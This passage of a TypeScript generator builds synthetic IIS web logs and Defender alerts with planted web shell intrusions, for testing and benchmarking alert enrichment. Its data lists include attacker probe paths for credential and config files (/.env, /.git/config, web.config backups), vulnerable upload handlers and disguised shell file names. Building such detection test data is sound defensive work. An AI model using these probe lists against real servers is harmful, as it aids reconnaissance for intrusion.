// Plants web shell intrusions into realistic background traffic on several IIS servers, and writes
// the Defender (MDATP) SecurityAlert rows they raise, with the ground truth an enrichment must
// find for every alert. Deterministic for a seed. Used by the demo (`npm run demo`), the
// enrichment tests and the benchmark.
//
// What is planted, and why each piece is there (docs: /work/shared/docs/domain.md):
// - Servers WEB01..WEB0n, every one's first site called W3SVC1 (scoping by site alone mixes them
//   up); some log `s-computername`/`s-sitename`, others IIS 10's default fields (the importer is
//   given host and site). IIS writes `WEB01`, Defender writes `web01` + DnsDomain + FQDN.
// - Background: browser sessions with their assets, crawlers, API clients, a load balancer's
//   health check, 404 scanners probing .php/.aspx paths, and admins opening rare admin pages —
//   some planted within a minute of shell commands (the "rare page in the same minute" decoy).
// - Per intrusion: recon (the attacker's first access), 404 probing, a POST to an upload page
//   around the shell file's creation, the shell's first access, then commands: each request logged
//   0–3 s after its process's CreationTimeUtc (IIS logs a request when it completes), two of them
//   < 90 s apart (the Sentinel min/max filter drops those). Sometimes a second IP, or the same IP
//   with a second user agent, uses the shell.
// - Alerts: a file alert per intrusion (StartTime = file creation), a command alert per command
//   (cmd.exe/powershell.exe child of w3wp.exe), TimeGenerated 0–15 min after the activity; `$id`s
//   restart at "2" in every alert, laid out like the sample so Sentinel's `$id` join cross-pairs.
// - Benign: csc.exe under w3wp (ASP.NET compiling a page an admin opened), a non-web PowerShell
//   alert, and a real command alert on a server whose logs are missing.
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { prng } from "../support/prng";

// ---------------------------------------------------------------------------------------------
// Public types.

export interface ScenarioOptions {
  /** First day of traffic (its UTC date is used; traffic starts at 00:00 UTC). */
  start: Date;
  days: number;
  /** Background requests per logged server per day, split over its sites (planted ones come on top). */
  requestsPerServerPerDay: number;
  /** Planted intrusions, on different servers (round robin) at different days/times. */
  intrusions: number;
  seed?: number;
  /** Servers with logs, 2..6 (default 5). */
  servers?: number;
  /**
   * Adds one more intrusion by the actor of intrusion 0 — same IP and user agent, same shell name —
   * on another server at least a day later (needs days >= 2).
   */
  returningActor?: boolean;
  /**
   * Server names are <hostPrefix>01, <hostPrefix>02, … (default "WEB"): tests that share one
   * database use their own, so that one test's servers never show up in another's.
   */
  hostPrefix?: string;
  /** The csc.exe compile alert and the non-web PowerShell alert (default true). */
  benignAlerts?: boolean;
  /** A real command alert on one more server, whose logs are not in the scenario (default true). */
  unloggedServerAlert?: boolean;
}

export type LogLayout = "full" | "named" | "default";

export interface SiteSpec {
  /** s-sitename, e.g. W3SVC1. */
  name: string;
  /** cs-host. */
  hostHeader: string;
  /** Physical path of the site's root, e.g. C:\inetpub\wwwroot. */
  webRoot: string;
  appPool: string;
}

export interface ServerSpec {
  /** s-computername as IIS writes it (upper case), and the host given at import. */
  host: string;
  /** Defender's HostName (lower case), DnsDomain and FQDN. */
  hostName: string;
  dnsDomain: string;
  fqdn: string;
  serverIp: string;
  /** "full": 22 fields; "named": with s-sitename/s-computername; "default": IIS 10's default set. */
  layout: LogLayout;
  /** False for IIS 10's default fields: give host and site at import. */
  logsHostAndSite: boolean;
  /** False for the server whose logs are missing (only an alert names it). */
  hasLogs: boolean;
  sites: SiteSpec[];
}

/** One log directory: every u_exYYMMDD.log of one site of one server. */
export interface LogSource {
  host: string;
  site: string;
  /** Relative directory: HOST/SITE. */
  dir: string;
  logsHostAndSite: boolean;
  /** Relative file names (HOST/SITE/u_exYYMMDD.log), by date. */
  files: string[];
}

export interface Attacker {
  ip: string;
  /** As logged (spaces written as "+"). */
  userAgent: string;
}

/** A planted request as it appears in the log (time to the second, as logged). */
export interface PlantedRequest {
  time: Date;
  method: string;
  /** cs-uri-stem. */
  uri: string;
  /** cs-uri-query, null when "-". */
  query: string | null;
  status: number;
  ip: string;
  userAgent: string;
}

export interface PlantedCommand {
  alertId: string;
  image: "cmd.exe" | "powershell.exe";
  commandLine: string;
  /** The process's CreationTimeUtc (ms precision; the alert writes 7 digits). */
  executedAt: Date;
  /** The shell request that ran it, logged 0–3 s after executedAt. */
  request: PlantedRequest;
}

export interface PlantedIntrusion {
  index: number;
  /** Actor number: equal for a returning actor. */
  actor: number;
  /** The earlier intrusion of the same actor, for the returning actor's intrusion. */
  returnOf: number | null;
  /** IIS host (upper case) and site. */
  host: string;
  site: string;
  /** Defender's HostName and FQDN. */
  hostName: string;
  fqdn: string;
  shellLocation: string;
  shellFile: { name: string; directory: string };
  /** The attacker who did the recon and the upload. */
  attacker: Attacker;
  /** Everyone who used the shell, by first use; the first is `attacker`. */
  attackers: Attacker[];
  /** The attacker's first request to this host and site. */
  firstAccess: Date;
  /** The attacker's requests to this host and site before the first shell request, ascending. */
  requestsBeforeShell: PlantedRequest[];
  /** Distinct stems of those, in order of first request. */
  filesBeforeShell: string[];
  /** The upload POST, logged 20 s before to 3 s after the shell file's creation. */
  upload: PlantedRequest;
  shellCreatedAt: Date;
  firstShellAccess: Date;
  /** Every request to the shell, ascending. */
  shellRequests: PlantedRequest[];
  commands: PlantedCommand[];
  fileAlertId: string;
}

/** Ground truth for one alert (by SystemAlertId). */
export interface ExpectedAlert {
  kind: "command" | "file" | "other";
  /** No web shell behind it (ASP.NET compiling, a non-web alert). */
  benign: boolean;
  /** IIS host name (upper case, s-computername / host given at import); null when unknown. */
  host: string | null;
  site: string | null;
  shellLocation: string | null;
  /**
   * Command alert: the attacker whose request ran the command. File alert: everyone who used the
   * shell, by first use. Empty when benign or when no log shows it.
   */
  attackers: Attacker[];
  /** First request to the shell (by anyone). */
  firstShellAccess: Date | null;
  installedVia?: { time: Date; method: string; uri: string; query: string | null; ip: string; userAgent: string };
  /** Command alerts of an intrusion: the request that ran this command. */
  commandRequest?: PlantedRequest;
  /** Index into `scenario.intrusions`. */
  intrusion: number | null;
  /** False when the host's logs are not in the scenario, so no finding is possible. */
  logsAvailable: boolean;
  note: string;
}

/** A rare admin page requested by an admin within a minute of a shell command. */
export interface DecoyRequest {
  host: string;
  site: string;
  time: Date;
  uri: string;
  ip: string;
  userAgent: string;
  /** The command alert whose request it is near. */
  nearAlertId: string;
  /** False when on another server that also calls its site W3SVC1. */
  sameHost: boolean;
}

/** A SecurityAlert row as the Log Analytics table holds it (Entities/ExtendedProperties as JSON strings). */
export type SecurityAlertRow = Record<string, unknown> & {
  SystemAlertId: string;
  TimeGenerated: string;
  StartTime: string;
  DisplayName: string;
  Entities: string;
  ExtendedProperties: string;
};

export interface Scenario {
  options: Required<ScenarioOptions>;
  /** Every server, including the one without logs (hasLogs false). */
  servers: ServerSpec[];
  logSources: LogSource[];
  /** Relative file name (HOST/SITE/u_exYYMMDD.log) → W3C log text (CRLF). */
  logs: Map<string, string>;
  /** Data lines across all logs. */
  requestCount: number;
  alerts: SecurityAlertRow[];
  /** Ground truth per SystemAlertId. */
  expected: Record<string, ExpectedAlert>;
  intrusions: PlantedIntrusion[];
  decoys: DecoyRequest[];
}

// ---------------------------------------------------------------------------------------------
// Fixed vocabulary (exported where tests look for it).

const SECOND = 1000;
const MINUTE = 60_000;
const HOUR = 3_600_000;
const DAY = 86_400_000;
/** Ingestion lag of alerts: TimeGenerated − activity. */
export const MAX_ALERT_LAG_MS = 15 * MINUTE;
/** A shell request is logged this long at most after its process started. */
export const MAX_SHELL_LOG_DELAY_MS = 3 * SECOND;

/** Rare but benign pages: only the admin IPs ever request them. */
export const ADMIN_PAGES = [
  "/admin/reports.aspx",
  "/umbraco/backoffice.aspx",
  "/admin/users.aspx",
  "/admin/settings.aspx",
] as const;
export const ADMIN_IPS = ["10.10.5.21", "10.10.5.34"] as const;
const ADMIN_UA =
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/124.0.0.0+Safari/537.36+Edg/124.0.2478.80";
const ADMIN_USER = "CONTOSO\\adm.jsmith";
const HEALTH_IP = "10.0.0.2";
const HEALTH_PAGE = "/health.aspx";

const FULL_FIELDS =
  "date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs-version cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken";
const NAMED_FIELDS =
  "date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";
const DEFAULT_FIELDS =
  "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

const BROWSERS = [
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/124.0.0.0+Safari/537.36",
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/125.0.0.0+Safari/537.36",
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/124.0.0.0+Safari/537.36+Edg/124.0.2478.67",
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:125.0)+Gecko/20100101+Firefox/125.0",
  "Mozilla/5.0+(Macintosh;+Intel+Mac+OS+X+10_15_7)+AppleWebKit/605.1.15+(KHTML,+like+Gecko)+Version/17.4.1+Safari/605.1.15",
  "Mozilla/5.0+(Macintosh;+Intel+Mac+OS+X+10_15_7)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/124.0.0.0+Safari/537.36",
  "Mozilla/5.0+(iPhone;+CPU+iPhone+OS+17_4_1+like+Mac+OS+X)+AppleWebKit/605.1.15+(KHTML,+like+Gecko)+Version/17.4.1+Mobile/15E148+Safari/604.1",
  "Mozilla/5.0+(Linux;+Android+10;+K)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/124.0.0.0+Mobile+Safari/537.36",
];
const CRAWLERS: { ua: string; net: string }[] = [
  { ua: "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)", net: "66.249.66" },
  { ua: "Mozilla/5.0+(compatible;+bingbot/2.0;++http://www.bing.com/bingbot.htm)", net: "157.55.39" },
  { ua: "Mozilla/5.0+(compatible;+AhrefsBot/7.0;++http://ahrefs.com/robot/)", net: "54.36.148" },
];
const SCANNER_UAS = [
  "Mozilla/5.0+zgrab/0.x",
  "Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html)",
  "python-requests/2.25.1",
  "Mozilla/5.0+(compatible;+CensysInspect/1.1;++https://about.censys.io/)",
  "Mozilla/5.0+(X11;+Linux+x86_64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/81.0.4044.129+Safari/537.36",
];
const API_UAS = [
  "okhttp/4.12.0",
  "Apache-HttpClient/4.5.14+(Java/17.0.8)",
  "ContosoMobile/3.2.1+CFNetwork/1494.0.7+Darwin/23.4.0",
];
/** Paths 404 scanners probe (never a planted shell nor an admin page). */
const SCANNER_PATHS = [
  "/wp-login.php",
  "/xmlrpc.php",
  "/phpinfo.php",
  "/info.php",
  "/admin.php",
  "/wp-admin/setup-config.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/phpmyadmin/index.php",
  "/pma/index.php",
  "/index.php",
  "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
  "/admin.aspx",
  "/administrator/index.aspx",
  "/aspnet_client/system_web/shell.aspx",
  "/aspnet_client/cmd.aspx",
  "/owa/auth/logon.aspx",
  "/ecp/default.aspx",
  "/autodiscover/autodiscover.xml",
  "/.env",
  "/.git/config",
  "/web.config",
  "/backup.zip",
  "/elmah.axd",
  "/trace.axd",
  "/server-status",
  "/solr/admin/info/system",
  "/HNAP1/",
  "/cgi-bin/luci",
  "/actuator/health",
  "/.well-known/security.txt",
];
/** Paths the attackers probe before the upload. */
const ATTACKER_PROBES = [
  "/admin.php",
  "/upload.php",
  "/uploads/",
  "/admin/upload.aspx",
  "/FileUpload.aspx",
  "/fckeditor/editor/filemanager/connectors/aspx/connector.aspx",
  "/ckfinder/ckfinder.html",
  "/Telerik.Web.UI.DialogHandler.aspx",
  "/App_Data/",
  "/aspnet_client/",
  "/bin/",
  "/web.config.bak",
  "/Web.config.old",
  "/install.aspx",
];
const ATTACKER_UAS = [
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:109.0)+Gecko/20100101+Firefox/115.0",
  "Mozilla/5.0+(Windows+NT+6.1;+WOW64;+Trident/7.0;+rv:11.0)+like+Gecko",
  "Mozilla/5.0+(X11;+Linux+x86_64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/96.0.4664.110+Safari/537.36",
  "Mozilla/5.0+(Macintosh;+Intel+Mac+OS+X+10_14_6)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/87.0.4280.88+Safari/537.36",
  "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/99.0.4844.51+Safari/537.36+Edg/99.0.1150.36",
  "Mozilla/5.0+(compatible;+MSIE+10.0;+Windows+NT+6.2;+Trident/6.0)",
];
/** Second user agents: shell clients and scripts. */
const TOOL_UAS = ["python-requests/2.31.0", "Go-http-client/1.1", "curl/7.88.1", "Java/1.8.0_291"];
const SHELL_FOLDERS = ["aspnet_client/system_web", "aspnet_client", "Content/images", "uploads/temp", "Scripts/lib"];
const SHELL_NAMES = [
  "Setconfigure.aspx",
  "errorEE.aspx",
  "OutlookDC.aspx",
  "TimeoutLogout.aspx",
  "RedirSuiteServerProxy.aspx",
  "discover.aspx",
  "xsl.aspx",
  "help_1.aspx",
  "web_cfg.aspx",
  "log_view.aspx",
];

interface PageDef {
  stem: string;
  w: number;
  query?: (r: Rng) => string;
  /** Probability of a POST. */
  post?: number;
  /** Requests carry the signed-in user. */
  auth?: boolean;
}

interface SiteContent {
  pages: PageDef[];
  assets: string[];
  /** The page attackers upload through (and, if `legitUploads`, users too). */
  upload: { stem: string; query: string; getStatus: number };
  legitUploads: boolean;
  api: string[];
}

const id = (lo: number, hi: number) => (r: Rng) => `id=${r.int(lo, hi)}`;
const COMMON_ASSETS = ["/favicon.ico", "/css/site.css", "/js/site.js", "/js/jquery-3.7.1.min.js", "/images/logo.png"];
const TELERIK_RESOURCE = "/Telerik.Web.UI.WebResource.axd";

const CONTENT: Record<string, SiteContent> = {
  www: {
    pages: [
      { stem: "/", w: 20 },
      { stem: "/default.aspx", w: 14 },
      { stem: "/about.aspx", w: 4 },
      { stem: "/products/list.aspx", w: 8 },
      { stem: "/products/detail.aspx", w: 12, query: id(1000, 4999) },
      {
        stem: "/search.aspx",
        w: 5,
        query: (r) => `q=${r.pick(["pumps", "valves", "price+list", "contact", "filters"])}`,
      },
      { stem: "/contact.aspx", w: 3, post: 0.25 },
      { stem: "/news/article.aspx", w: 6, query: id(1, 380) },
      { stem: "/careers.aspx", w: 2 },
    ],
    assets: [
      ...COMMON_ASSETS,
      "/css/bootstrap.min.css",
      "/images/hero.jpg",
      "/images/products/p12.jpg",
      TELERIK_RESOURCE,
    ],
    upload: { stem: TELERIK_RESOURCE, query: "type=rau", getStatus: 200 },
    legitUploads: false,
    api: [],
  },
  portal: {
    pages: [
      { stem: "/Account/Login.aspx", w: 8, post: 0.4 },
      { stem: "/Dashboard.aspx", w: 14, auth: true },
      { stem: "/Documents/List.aspx", w: 8, auth: true },
      { stem: "/Documents/View.aspx", w: 8, auth: true, query: (r) => `doc=${r.int(10000, 99999)}` },
      { stem: "/Profile.aspx", w: 2, auth: true, post: 0.2 },
      { stem: "/api/notifications.ashx", w: 6, auth: true },
    ],
    assets: [...COMMON_ASSETS, "/css/portal.css", "/images/avatar.png"],
    upload: { stem: "/api/upload.ashx", query: "-", getStatus: 405 },
    legitUploads: true,
    api: [],
  },
  shop: {
    pages: [
      { stem: "/", w: 10 },
      { stem: "/shop/default.aspx", w: 12 },
      { stem: "/shop/category.aspx", w: 10, query: (r) => `c=${r.int(1, 40)}` },
      { stem: "/shop/product.aspx", w: 14, query: (r) => `sku=CT-${r.int(10000, 99999)}` },
      { stem: "/shop/cart.aspx", w: 5, post: 0.5 },
      { stem: "/shop/checkout.aspx", w: 2, post: 0.5 },
    ],
    assets: [...COMMON_ASSETS, "/css/shop.css", "/images/banner.jpg", "/WebResource.axd"],
    upload: { stem: "/upload.aspx", query: "-", getStatus: 200 },
    legitUploads: false,
    api: [],
  },
  api: {
    pages: [{ stem: "/", w: 1 }],
    assets: [],
    upload: { stem: "/api/upload.ashx", query: "-", getStatus: 405 },
    legitUploads: true,
    api: ["/api/v1/orders.asmx", "/api/v1/stock.asmx", "/api/v1/prices.asmx"],
  },
  intranet: {
    pages: [
      { stem: "/", w: 10, auth: true },
      { stem: "/default.aspx", w: 10, auth: true },
      { stem: "/hr/policies.aspx", w: 4, auth: true },
      { stem: "/it/tickets.aspx", w: 6, auth: true },
      { stem: "/it/newticket.aspx", w: 3, auth: true, post: 0.5 },
      { stem: "/people/search.aspx", w: 5, auth: true, query: (r) => `q=${r.pick(["smith", "it+desk", "finance"])}` },
    ],
    assets: [...COMMON_ASSETS, "/css/intranet.css"],
    upload: { stem: "/upload.aspx", query: "-", getStatus: 200 },
    legitUploads: true,
    api: [],
  },
  docs: {
    pages: [
      { stem: "/docs/default.aspx", w: 10 },
      { stem: "/docs/view.aspx", w: 14, query: id(1, 2200) },
      { stem: "/docs/search.aspx", w: 4, query: (r) => `q=${r.pick(["install", "api", "release+notes"])}` },
    ],
    assets: [...COMMON_ASSETS, "/css/docs.css"],
    upload: { stem: "/upload.aspx", query: "-", getStatus: 200 },
    legitUploads: false,
    api: [],
  },
};

interface SiteTemplate {
  name: string;
  hostHeader: string;
  webRoot: string;
  appPool: string;
  content: keyof typeof CONTENT;
  /** Share of the server's requests. */
  share: number;
}
interface ServerTemplate {
  host: string;
  dnsDomain: string;
  layout: LogLayout;
  ip: string;
  sites: SiteTemplate[];
}

const WWW_CONTOSO: SiteTemplate = {
  name: "W3SVC1",
  hostHeader: "www.contoso.com",
  webRoot: "C:\\inetpub\\wwwroot",
  appPool: "DefaultAppPool",
  content: "www",
  share: 1,
};
const SERVER_CATALOG: ServerTemplate[] = [
  {
    host: "WEB01",
    dnsDomain: "contoso.local",
    layout: "full",
    ip: "10.0.0.5",
    sites: [
      { ...WWW_CONTOSO, share: 0.75 },
      {
        name: "W3SVC2",
        hostHeader: "portal.contoso.com",
        webRoot: "D:\\Sites\\portal",
        appPool: "PortalAppPool",
        content: "portal",
        share: 0.25,
      },
    ],
  },
  // WEB01's farm partner: the same www site.
  { host: "WEB02", dnsDomain: "contoso.local", layout: "default", ip: "10.0.0.6", sites: [WWW_CONTOSO] },
  {
    host: "WEB03",
    dnsDomain: "contoso.local",
    layout: "named",
    ip: "10.0.1.11",
    sites: [
      {
        name: "W3SVC1",
        hostHeader: "shop.contoso.com",
        webRoot: "C:\\inetpub\\wwwroot",
        appPool: "DefaultAppPool",
        content: "shop",
        share: 0.7,
      },
      {
        name: "W3SVC3",
        hostHeader: "api.contoso.com",
        webRoot: "D:\\Sites\\api",
        appPool: "ApiAppPool",
        content: "api",
        share: 0.3,
      },
    ],
  },
  {
    host: "WEB04",
    dnsDomain: "fabrikam.local",
    layout: "default",
    ip: "10.20.0.4",
    sites: [
      {
        name: "W3SVC1",
        hostHeader: "www.fabrikam.com",
        webRoot: "C:\\inetpub\\wwwroot",
        appPool: "DefaultAppPool",
        content: "www",
        share: 0.65,
      },
      {
        name: "W3SVC2",
        hostHeader: "docs.fabrikam.com",
        webRoot: "D:\\Sites\\docs",
        appPool: "DocsAppPool",
        content: "docs",
        share: 0.35,
      },
    ],
  },
  {
    host: "WEB05",
    dnsDomain: "contoso.local",
    layout: "full",
    ip: "10.0.1.12",
    sites: [
      {
        name: "W3SVC1",
        hostHeader: "intranet.contoso.local",
        webRoot: "C:\\inetpub\\wwwroot",
        appPool: "DefaultAppPool",
        content: "intranet",
        share: 1,
      },
    ],
  },
  {
    host: "WEB06",
    dnsDomain: "contoso.local",
    layout: "named",
    ip: "10.0.1.13",
    sites: [{ ...WWW_CONTOSO, hostHeader: "shop.contoso.com", content: "shop" }],
  },
];

// ---------------------------------------------------------------------------------------------
// Randomness.

class Rng {
  readonly next: () => number;
  constructor(seed: number) {
    this.next = prng(seed);
  }
  /** Integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(a: readonly T[]): T {
    return a[Math.floor(this.next() * a.length)] as T;
  }
  weighted<T extends { w: number }>(a: readonly T[], total: number): T {
    let x = this.next() * total;
    for (const item of a) {
      x -= item.w;
      if (x < 0) return item;
    }
    return a[a.length - 1] as T;
  }
  hex(digits: number): string {
    let s = "";
    while (s.length < digits)
      s += Math.floor(this.next() * 0x100000000)
        .toString(16)
        .padStart(8, "0");
    return s.slice(0, digits);
  }
  guid(): string {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${"89ab"[this.int(0, 3)]}${h.slice(17, 20)}-${h.slice(20)}`;
  }
  token(len: number): string {
    const alphabet = "abcdefghijklmnopqrstuvwxyz012345";
    let s = "";
    for (let i = 0; i < len; i++) s += alphabet[Math.floor(this.next() * 32)];
    return s;
  }
}

// ---------------------------------------------------------------------------------------------
// Requests and logs.

/** One log line's values. `t` is whole seconds (ms epoch); strings are as logged ("-" if empty). */
interface Req {
  t: number;
  method: string;
  stem: string;
  query: string;
  port: number;
  user: string;
  ip: string;
  ver: string;
  ua: string;
  cookie: string;
  referer: string;
  status: number;
  sub: number;
  win32: number;
  scBytes: number;
  csBytes: number;
  taken: number;
}

interface SiteState {
  server: ServerSpec;
  site: SiteSpec;
  content: SiteContent;
  reqs: Req[];
  /** w3wp.exe of this site's app pool. */
  w3wp: { pid: string; created: number; commandLine: string };
}

const floorSec = (ms: number) => Math.floor(ms / SECOND) * SECOND;
const ceilSec = (ms: number) => Math.ceil(ms / SECOND) * SECOND;

/** A time with a non-zero millisecond part (so a whole-second log time is never equal to it). */
function withMs(r: Rng, ms: number): number {
  return floorSec(ms) + r.int(1, 999);
}

/** The second a request is logged at when it completes 0–3 s after `startedMs` (IIS logs completion). */
function completionSecond(r: Rng, startedMs: number): number {
  const k = r.next() < 0.5 ? 0 : r.next() < 0.7 ? 1 : 2;
  return ceilSec(startedMs) + k * SECOND;
}

function isoSeconds(ms: number): string {
  return new Date(ms).toISOString();
}

/** Alert times carry 7 fractional digits in SecurityAlert. */
function alertTime(ms: number, extra: number): string {
  return new Date(ms).toISOString().slice(0, 23) + String(extra).padStart(4, "0") + "Z";
}

function randomPublicIp(r: Rng): string {
  if (r.chance(0.04))
    return `2a02:${r.hex(4).replace(/^0+/, "") || "0"}:${r.int(1, 0xfff).toString(16)}::${r.int(1, 0xffff).toString(16)}`;
  const first = r.pick([
    23, 24, 31, 37, 45, 46, 62, 71, 73, 77, 78, 80, 81, 82, 84, 86, 88, 90, 91, 93, 94, 95, 98, 99, 104, 108, 109, 136,
    146, 151, 173, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217,
  ]);
  return `${first}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
}

/** Diurnal weights per UTC hour: quiet at night, busy in the afternoon. */
const HOUR_WEIGHTS = Array.from(
  { length: 24 },
  (_, h) => 0.25 + Math.max(0, Math.sin(((h - 6) / 24) * 2 * Math.PI)) * 1.2,
);
const HOUR_TOTAL = HOUR_WEIGHTS.reduce((a, b) => a + b, 0);

function diurnalTime(r: Rng, dayStart: number): number {
  let x = r.next() * HOUR_TOTAL;
  let h = 0;
  for (; h < 23; h++) {
    x -= HOUR_WEIGHTS[h] as number;
    if (x < 0) break;
  }
  return dayStart + h * HOUR + r.int(0, HOUR / SECOND - 1) * SECOND;
}

function req(p: Partial<Req> & Pick<Req, "t" | "stem" | "ip" | "ua">): Req {
  // One literal with every field in one order: a spread here doubles the generator's time in GC.
  return {
    t: p.t,
    method: p.method ?? "GET",
    stem: p.stem,
    query: p.query ?? "-",
    port: p.port ?? 443,
    user: p.user ?? "-",
    ip: p.ip,
    ver: p.ver ?? "HTTP/1.1",
    ua: p.ua,
    cookie: p.cookie ?? "-",
    referer: p.referer ?? "-",
    status: p.status ?? 200,
    sub: p.sub ?? 0,
    win32: p.win32 ?? 0,
    scBytes: p.scBytes ?? 0,
    csBytes: p.csBytes ?? 0,
    taken: p.taken ?? 0,
  };
}

// Lines come in time order: the date and time strings change at most once a second.
let stampSecond = NaN;
let stampDate = "";
let stampTime = "";

/**
 * Appends one data line (with its CRLF) to `out` as separate values: joining the whole file's
 * values once is several times faster than building each line as a string (no rope garbage).
 */
function pushLine(out: string[], server: ServerSpec, site: SiteSpec, q: Req): void {
  if (q.t !== stampSecond) {
    const iso = new Date(q.t).toISOString();
    stampSecond = q.t;
    stampDate = iso.slice(0, 10);
    stampTime = iso.slice(11, 19);
  }
  const layout = server.layout;
  out.push(stampDate, " ", stampTime, " ");
  if (layout !== "default") out.push(site.name, " ", server.host, " ");
  out.push(server.serverIp, " ", q.method, " ", q.stem, " ", q.query, " ", String(q.port), " ", q.user, " ", q.ip, " ");
  if (layout === "full") out.push(q.ver, " ", q.ua, " ", q.cookie, " ", q.referer, " ", site.hostHeader, " ");
  else out.push(q.ua, " ", q.referer, " ");
  out.push(String(q.status), " ", String(q.sub), " ", String(q.win32), " ");
  if (layout === "full") out.push(String(q.scBytes), " ", String(q.csBytes), " ");
  out.push(String(q.taken), "\r\n");
}

function fieldsOf(layout: LogLayout): string {
  return layout === "full" ? FULL_FIELDS : layout === "named" ? NAMED_FIELDS : DEFAULT_FIELDS;
}

// ---------------------------------------------------------------------------------------------
// Background traffic.

interface Client {
  ip: string;
  ua: string;
}

class Background {
  private readonly pageTotal: number;
  constructor(
    private readonly r: Rng,
    private readonly s: SiteState,
    private readonly clients: Client[],
    private readonly users: string[],
  ) {
    this.pageTotal = s.content.pages.reduce((a, p) => a + p.w, 0);
  }

  private push(q: Req): void {
    this.s.reqs.push(q);
  }

  private url(stem: string): string {
    return `https://${this.s.site.hostHeader}${stem}`;
  }

  /** About `budget` requests for one day starting at dayStart. */
  day(dayStart: number, budget: number): void {
    const r = this.r;
    const reqs = this.s.reqs;
    const base = reqs.length;
    const upTo = (share: number) => base + Math.round(budget * share);
    // Load balancer health check, evenly spaced (a one-IP "rare" script page all day long).
    const checks = Math.max(1, Math.round(budget * 0.04));
    const every = Math.floor(DAY / checks / SECOND) * SECOND;
    const offset = r.int(0, every / SECOND - 1) * SECOND;
    for (let i = 0; i < checks; i++) {
      this.push(
        req({
          t: dayStart + offset + i * every,
          stem: HEALTH_PAGE,
          ip: HEALTH_IP,
          ua: "-",
          port: 80,
          ver: "HTTP/1.0",
          scBytes: 180,
          csBytes: 90,
          taken: r.int(0, 4),
        }),
      );
    }
    while (reqs.length < upTo(0.12)) this.crawler(dayStart);
    while (reqs.length < upTo(0.19)) this.scanner(dayStart);
    if (this.s.content.api.length > 0) while (reqs.length < upTo(0.75)) this.apiClient(dayStart);
    // Admins: a few visits a day during office hours, to rare pages.
    for (let i = r.int(0, 2); i > 0; i--) {
      this.adminVisit(dayStart + r.int(8 * 3600, 17 * 3600) * SECOND, r.pick(ADMIN_IPS));
    }
    while (reqs.length < upTo(1)) this.browserSession(dayStart);
  }

  private crawler(dayStart: number): void {
    const r = this.r;
    const c = r.pick(CRAWLERS);
    const ip = `${c.net}.${r.int(1, 254)}`;
    let t = dayStart + r.int(0, DAY / SECOND - 1) * SECOND;
    if (r.chance(0.3))
      this.push(req({ t, stem: "/robots.txt", ip, ua: c.ua, scBytes: 310, csBytes: 250, taken: r.int(0, 8) }));
    for (let n = r.int(1, 6); n > 0; n--) {
      t += r.int(1, 30) * SECOND;
      const page = r.weighted(this.s.content.pages, this.pageTotal);
      if (page.auth) continue;
      this.push(
        req({
          t,
          stem: page.stem,
          query: page.query ? page.query(r) : "-",
          ip,
          ua: c.ua,
          scBytes: r.int(8000, 60000),
          csBytes: r.int(250, 500),
          taken: r.int(20, 400),
        }),
      );
    }
  }

  private scanner(dayStart: number): void {
    const r = this.r;
    const ip = randomPublicIp(r);
    const ua = r.pick(SCANNER_UAS);
    let t = dayStart + r.int(0, DAY / SECOND - 1) * SECOND;
    for (let n = r.int(15, 60); n > 0; n--) {
      t += r.int(0, 3) * SECOND;
      const stem = r.pick(SCANNER_PATHS);
      const hidden = stem.startsWith("/web.config") || stem.startsWith("/bin/");
      this.push(
        req({
          t,
          stem,
          ip,
          ua,
          port: r.chance(0.3) ? 80 : 443,
          status: 404,
          sub: hidden ? 8 : 0,
          win32: hidden ? 0 : 2,
          scBytes: 1245,
          csBytes: r.int(150, 400),
          taken: r.int(0, 15),
        }),
      );
    }
  }

  private apiClient(dayStart: number): void {
    const r = this.r;
    const c = this.clients[Math.floor(this.clients.length * r.next() ** 2)] as Client;
    const ua = r.pick(API_UAS);
    let t = diurnalTime(r, dayStart);
    for (let n = r.int(1, 8); n > 0; n--) {
      t += r.int(0, 20) * SECOND;
      const upload = this.s.content.legitUploads && r.chance(0.03);
      const stem = upload ? this.s.content.upload.stem : r.pick(this.s.content.api);
      const post = upload || r.chance(0.6);
      this.push(
        req({
          t,
          method: post ? "POST" : "GET",
          stem,
          ip: c.ip,
          ua,
          status: r.chance(0.995) ? 200 : 500,
          scBytes: r.int(300, 9000),
          csBytes: upload ? r.int(20000, 900000) : r.int(300, 2500),
          taken: r.int(8, 600),
        }),
      );
    }
  }

